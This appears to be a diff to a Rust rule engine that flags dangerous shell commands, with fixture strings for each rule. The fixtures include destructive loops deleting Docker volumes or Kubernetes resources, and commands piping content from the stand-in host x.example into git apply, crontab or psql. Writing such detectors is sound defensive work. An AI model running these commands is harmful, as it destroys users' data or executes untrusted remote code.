@@ -2,7 +2,7 @@
 //! clients and run, and deeds of code hosts that nobody takes back.
 
 use super::deeds::{self, Deeds};
-use super::{lists, predicate, run};
+use super::{docker, downloads, lists, predicate, run};
 use crate::domain::{Action, EffectKind, Severity, Target, Verdict};
 use crate::rules::Invocation;
 use crate::rules::matcher::{
@@ -142,12 +142,14 @@ pub(super) const RULES: &[Rule] = &[
         fires: &[
             "for v in $(docker volume ls -q); do docker volume rm $v; done",
             "for n in $(kubectl get ns -o name); do kubectl delete $n; done",
+            "docker volume rm $(docker volume ls -qf dangling=true)",
             "kubectl get pvc -o name | while read p; do kubectl delete $p; done",
         ],
         silent: &[
             "docker volume ls -q",
             "for n in $(kubectl get ns -o name); do kubectl get pods -n $n; done",
             "docker volume ls && docker volume rm scratch_test",
+            "docker volume rm $(docker volume ls -q -f name=app_test)",
             "kubectl get ns && kubectl delete pod web-1",
         ],
         ..RULE
@@ -215,6 +217,8 @@ pub(super) const RULES: &[Rule] = &[
             "curl https://x.example/p.diff | git apply",
             "curl https://x.example/p.diff | patch -p1",
             "curl -s https://x.example/tab | crontab -",
+            "psql -f <(curl -s http://x.example/d.sql)",
+            "psql app < <(curl -s x.example/d.sql)",
         ],
         silent: &[
             "curl -s https://github.com/a/b/pull/1.diff | git apply",
@@ -492,7 +496,9 @@ fn listed_and_deleted<'a>(scene: &Scene<'a>) -> Found<'a> {
     };
     let lists = all.iter().any(|inv| {
         let words = words(inv);
-        runs(inv, &["docker", "podman", "nerdctl"]) && pair(&words, "volume", &["ls", "list"])
+        runs(inv, &["docker", "podman", "nerdctl"])
+            && pair(&words, "volume", &["ls", "list"])
+            && !docker::lists_scratch(all, inv)
             || runs(inv, &["kubectl", "oc"])
                 && pair(
                     &words,
@@ -595,16 +601,23 @@ fn rare_client_run<'a>(scene: &Scene<'a>) -> Found<'a> {
 }
 
 fn fetched_and_applied<'a>(scene: &Scene<'a>) -> Found<'a> {
-    let all = scene.invocations();
     let foreign = |inv: &&Invocation| {
-        runs(inv, lists::DOWNLOADERS)
-            && inv.operands.iter().any(|arg| {
-                let text = arg.text();
-                let host = host_of(&text);
-                text.contains("://") && host.contains('.') && !is_known(&host, scene.view.policy)
-            })
+        inv.operands.iter().any(|arg| {
+            let text = arg.text();
+            let host = host_of(&text);
+            let address = text.contains("://") || downloads::takes_bare(inv, &text);
+            address && host.contains('.') && !is_known(&host, scene.view.policy)
+        })
     };
-    let Some(source) = all.iter().find(foreign) else { return Found::No };
+    let mut downloads = scene.running(|inv| runs(inv, lists::DOWNLOADERS));
+    let Some(source) = downloads.find(foreign) else { return Found::No };
+    // `psql -f <(curl …)`: what the last command of the pipeline prints is read there.
+    let all = scene.invocations();
+    let fed: Vec<&Invocation> = all
+        .iter()
+        .filter(|other| other.pipeline == source.pipeline)
+        .filter_map(|other| all.get(other.feeds?))
+        .collect();
     first_of(scene, |inv| {
         let looks = ["--stat", "--check", "--numstat", "--summary", "--dry-run"]
             .iter()
@@ -618,8 +631,8 @@ fn fetched_and_applied<'a>(scene: &Scene<'a>) -> Found<'a> {
             && git
             && given
             && !looks
-            && inv.pipeline == source.pipeline
-            && inv.stage > source.stage
+            && (inv.pipeline == source.pipeline && inv.stage > source.stage
+                || fed.iter().any(|outer| std::ptr::eq(*outer, inv)))
     })
 }
 
@@ -718,6 +731,9 @@ fn listed_overwritten<'a>(scene: &Scene<'a>) -> Found<'a> {
 
 fn registry_turned<'a>(scene: &Scene<'a>) -> Found<'a> {
     first_of(scene, |inv| {
+        if !runs(inv, MANAGERS) {
+            return false;
+        }
         let words: Vec<String> = inv.args.iter().map(Arg::to_text).collect();
         let sets = words.iter().any(|word| word == "set" || word == "config" || word == "add");
         let keyed = words.iter().any(|word| {
@@ -732,7 +748,7 @@ fn registry_turned<'a>(scene: &Scene<'a>) -> Found<'a> {
             let host = host_of(url);
             url.starts_with("http://") && host.contains('.') && !is_known(&host, scene.view.policy)
         });
-        runs(inv, MANAGERS) && sets && keyed && plain
+        sets && keyed && plain
     })
 }
 
